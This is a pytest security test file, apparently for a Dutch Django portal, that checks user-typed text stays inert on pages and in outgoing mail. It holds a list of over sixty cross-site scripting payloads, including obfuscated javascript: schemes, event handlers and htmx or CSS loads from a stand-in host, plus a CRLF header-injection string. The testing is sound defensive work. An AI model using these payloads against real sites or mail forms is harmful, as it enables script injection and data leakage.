"""What people type is shown as text: no payload comes alive on a page or in a mail."""

import uuid
from functools import cache
from html.parser import HTMLParser

import pytest
from django.apps import apps
from django.core.mail import EmailMessage
from django.db import connection, models

from common.models import OutgoingMail
from tests.factories import MembershipFactory
from tests.security import rooms, worlds
from tests.security.measure import knock
from tests.security.routes import OWN_ROUTES, Route

pytestmark = pytest.mark.django_db
MARK = "x9317"  # no identifier of a row can hold it: those are hexadecimal
HANDLERS = [
    ("body", "onload"),
    ("details open", "ontoggle"),
    ("select autofocus", "onfocus"),
    ("marquee", "onstart"),
    ("p", "onpointerenter"),
    ("a href=#", "onclick"),
    ("table", "onmouseover"),
]
SCHEMES = [
    "javascript:alert(x9317)",
    "JaVaScRiPt:alert(x9317)",
    "java&#10;script:alert(x9317)",
    "&#106;avascript:alert(x9317)",
    "vbscript:alert(x9317)",
    "data:text/html,<script>alert(x9317)</script>",
]
RUNS = ("javascript:", "vbscript:", "data:text/html")
# What a short field holds: one way out of each place where a text can stand on a page.
SHORT = [
    'javascript:alert(x9317)//"><img src=x onerror=alert(x9317)>',
    "<script>alert(x9317)</script>'><svg onload=alert(x9317)>",
    "</textarea></title><script>alert(x9317)</script>",
    "\" autofocus onfocus=\"alert(x9317)' onmouseover='alert(x9317)",
    "<a href=javascript:alert(x9317)>x</a>{{ x9317 }}{% debug %}",
    "<base href=//kwaad.nl/x9317/><iframe srcdoc='<b>x9317</b>'></iframe>",
]
# What only a reader of Markdown and HTML could bring alive: a long text holds all of it.
LONG = [
    *SHORT,
    *(f"<{tag} src=//kwaad.nl/x9317>" for tag in ("img", "audio", "video", "embed", "input")),
    *(f"<{tag} {handler}=alert(x9317)>" for tag, handler in HANDLERS),
    *(f"[naam]({scheme})" for scheme in SCHEMES),
    *(f"![beeld]({scheme})" for scheme in SCHEMES),
    *(f"<a href='{scheme}'>naam</a>" for scheme in SCHEMES),
    "<form action=//kwaad.nl/x9317><button formaction=//kwaad.nl/x9317>x</button></form>",
    "<meta http-equiv=refresh content='0;url=//kwaad.nl/x9317'>",
    '<div hx-get="//kwaad.nl/x9317" hx-trigger="load">x</div>',
    '<div data-hx-post="//kwaad.nl/x9317" hx-post="//kwaad.nl/x9317">x</div>',
    "<link rel=stylesheet href=//kwaad.nl/x9317>",
    "<object data=//kwaad.nl/x9317></object>",
    "<svg><script>alert(x9317)</script></svg>",
    "<svg><a href=javascript:alert(x9317)><text>x</text></a></svg>",
    "<math><mtext><style><img src=x onerror=alert(x9317)></style></mtext></math>",
    "<noscript><p title='</noscript><img src=x onerror=alert(x9317)>'></noscript>",
    "<math><maction actiontype=statusline xlink:href=javascript:alert(x9317)>x</maction></math>",
    "<form id=f></form><button form=f formaction=javascript:alert(x9317)>x</button>",
    "<a href='//kwaad.nl' ping='//kwaad.nl/x9317' onfocus=alert(x9317)>x</a>",
    "<keygen autofocus onfocus=alert(x9317)>",
    "<template><script>alert(x9317)</script></template>",
    "<x-lid onclick=alert(x9317) hx-get=//kwaad.nl/x9317>x</x-lid>",
    "<b style='background:url(//kwaad.nl/x9317)'>x</b>",
    "<![CDATA[<img src=x onerror=alert(x9317)>]]>",
    "&lt;script&gt;alert(x9317)&lt;/script&gt;",
    "<scr<script>ipt>alert(x9317)</scr</script>ipt>",
    "[naam]: javascript:alert(x9317)",
    "<javascript:alert(x9317)>",
    "```html\n<script>alert(x9317)</script>\n```",
    "<style>@import '//kwaad.nl/x9317'</style>",
    "<iframe srcdoc='<script>alert(x9317)</script>'></iframe>",
]
# Every text that people can type, now or through the register.
FIELDS = [
    ("accounts_user", ("first_name", "last_name")),
    ("organisations_organisation", ("name", "speaks_for", "place", "denomination")),
    ("organisations_location", ("name", "place")),
    ("organisations_labourmarketregion", ("name",)),
    ("organisations_municipality", ("name",)),
    ("partnerships_partnership", ("name", "vision")),
    ("regions_framework", ("name", "source")),
    ("regions_milestone", ("title", "note")),
    ("regions_region", ("name",)),
    ("regions_participant", ("declined_reason",)),
    ("regions_functionplan", ("arrangement", "target")),
    ("regions_regionpartnership", ("reason",)),
    ("regions_round", ("name",)),
    ("regions_criterion", ("title", "text", "source")),
    ("regions_assessment", ("summary",)),
    ("regions_score", ("justification",)),
    ("regions_decision", ("reasons", "points")),
    ("regions_regiontransition", ("reason",)),
    ("reports_report", ("title",)),
    *rooms.listed("TEXTS"),
]
# Texts that only some rows may have yet.
NOT_YET = {
    ("regions_partlock", "opened_reason"),
    ("regions_objection", "extension_reason"),
    ("regions_viewpoint", "text"),
}
ALIVE = ("src", "href", "action", "formaction", "srcdoc", "content", "data", "hx-get", "hx-post")


class LiveParts(HTMLParser):
    """The parts of a page that would run or load something with the mark in it."""

    def __init__(self):
        super().__init__(convert_charrefs=True)
        self.found: list[str] = []
        self.inside = ""

    def handle_starttag(self, tag, attrs):
        self.inside = tag if tag in ("script", "style") else ""
        for name, value in attrs:
            handler = name.startswith("on")
            loads = name in ALIVE and MARK in (value or "")
            runs = name in ALIVE and "".join((value or "").split()).lower().startswith(RUNS)
            if handler or runs or (loads and tag != "a"):
                self.found.append(f"<{tag} {name}={value!r}>")

    def handle_endtag(self, tag):
        self.inside = ""

    def handle_data(self, data):
        if self.inside and MARK in data:
            self.found.append(f"<{self.inside}> with {data!r}")


def test_sixty_ways_are_tried():
    assert len(set(LONG)) >= 60
    assert max(map(len, SHORT)) <= 70  # with its number it fits the shortest field


@pytest.mark.parametrize("payload", SHORT)
def test_no_payload_comes_alive_on_a_page(payload, world, clients):
    _type_everywhere(payload)
    shown = 0
    for role, route in PAGES:
        body = knock(clients[role], "GET", _path(route, world)).body.decode()
        parts = LiveParts()
        parts.feed(body)
        assert parts.found == [], f"{route} as {role}"
        shown += body.count(MARK)
    assert shown > 100  # the payload was there, as text


@pytest.mark.parametrize("payload", SHORT)
def test_a_mail_is_plain_text_whatever_a_region_is_called(payload, world, clients):
    message = _mail_about(f"Regio {payload}", world, clients)

    assert message["Bcc"] is None
    assert message.get_content_type() == "text/plain"


def test_a_line_break_in_a_name_makes_no_header_and_holds_no_mail_back(world, clients):
    message = _mail_about("Regio\r\nBcc: kwaad@voorbeeld.nl", world, clients)

    assert message["Bcc"] is None


def _mail_about(name: str, world, clients):
    """The mail that asks for consent, once the region is called like this."""
    director = MembershipFactory(organisation=world.a.party()).user
    _rename(world, clients, name)
    path = worlds.url("regions:ask", "draft", world.a)
    clients["editor"].post(path, {"form_key": str(uuid.uuid4())})

    mail = OutgoingMail.objects.get(to=director.email)
    return EmailMessage(mail.subject, mail.body, to=[mail.to]).message()


def _rename(world, clients, name: str) -> None:
    """Through the form, with line breaks that a browser would not send."""
    path = worlds.url("regions:details", "draft", world.a)
    clients["editor"].post(
        path, worlds.payload("regions:details", "draft", world.a, world) | {"name": name}
    )


def test_the_list_of_fields_is_complete():
    """A new text field of a model that forms or people fill must be tried here too."""
    tried = {(table, column) for table, columns in FIELDS for column in columns}
    free = {
        (model._meta.db_table, field.column)
        for model in apps.get_models()
        if model._meta.app_label in OWN_APPS and not hasattr(model, "pgh_tracked_model")
        for field in model._meta.concrete_fields
        if isinstance(field, models.CharField | models.TextField)
        and not field.choices
        and not isinstance(field, models.SlugField | models.EmailField)
    }
    missing = sorted(free - tried - FIXED)
    assert not missing, missing


OWN_APPS = [
    "accounts",
    "organisations",
    "partnerships",
    "regions",
    "financing",
    "consultations",
    "reports",
    "common",
]
# Texts that no person types: codes, hashes, and what the portal writes itself.
FIXED = {
    ("accounts_user", "password"),
    ("organisations_organisation", "board_number"),
    ("organisations_organisation", "brin"),
    ("organisations_organisation", "kvk"),
    ("organisations_organisation", "rio_id"),
    ("organisations_location", "code"),
    ("organisations_labourmarketregion", "code"),
    ("organisations_municipality", "code"),
    ("organisations_municipality", "province"),
    ("regions_submission", "reference"),
    ("regions_submission", "sha256"),
    ("common_handledform", "path"),
    ("common_handledform", "location"),
    ("common_outgoingmail", "error"),
    ("common_outgoingmail", "occasion"),
    ("common_outgoingmail", "subject"),  # made of the texts above; tested as a mail
    ("common_outgoingmail", "body"),
    ("regions_criterion", "code"),
    ("regions_regiontransition", "verb"),
    ("reports_report", "subject"),
    ("reports_report", "step"),
    ("reports_report", "file"),
    ("reports_report", "sha256"),
    ("reports_report", "error"),
    *rooms.listed("FIXED_TEXTS"),
}


def _type_everywhere(payload: str) -> None:
    """Put it in every text of every row, past forms and triggers, as a leak elsewhere might."""
    everything = "\n\n".join([payload, *LONG])
    with connection.cursor() as cursor:
        cursor.execute("SET LOCAL session_replication_role = replica")
        for table, columns in FIELDS:
            for column in columns:
                where = f"WHERE {column} <> ''" if (table, column) in NOT_YET else ""
                cursor.execute(
                    f"UPDATE {table} SET {column} = %s || id {where}",  # noqa: S608 -- our names
                    [everything if (table, column) in _long_texts() else payload],
                )
        cursor.execute(
            "UPDATE regions_submission SET snapshot = replace(snapshot::text, 'Zo doen wij het.', "
            "%s)::jsonb",
            [payload.replace("\\", "").replace('"', '\\"').replace("\r\n", " ")],
        )
        cursor.execute("SET LOCAL session_replication_role = DEFAULT")


@cache
def _long_texts() -> set[tuple[str, str]]:
    """The columns without a limit."""
    return {
        (model._meta.db_table, field.column)
        for model in apps.get_models()
        for field in model._meta.concrete_fields
        if isinstance(field, models.TextField)
    }


# Routes that answer with a file: a reader of HTML says nothing about those.
FILES = (
    "agenda-feed",
    "outbox-export",
    "reports:download",
    "partnerships:download-students",
    "partnerships:conversation-calendar",
    "consultations:ical",
    "consultations:open-ical",
    "regions:round-feed",
    "regions:signed-agreement",
)


def _pages() -> list[tuple[str, Route]]:
    """Every page once, as the first of these who may open it; the public ones also signed out."""
    roles = ("editor", "member", "assessor", "decider", "administrator")
    found = [("anonymous", r) for r in OWN_ROUTES if r.name in ("home", "reports:overview")]
    for route in OWN_ROUTES:
        row = route.methods.get("GET", {})
        role = next((role for role in roles if row.get(role) == "ok"), None)
        if role and not _is_file(route.name):
            found.append((role, route))
    return found


def _is_file(name: str) -> bool:
    is_data = name.startswith("api:") and name != "api:docs"
    return is_data or name in FILES or ":export" in name


PAGES = _pages()


def _path(route, world) -> str:
    return worlds.url(route.name, route.stage, world.a)
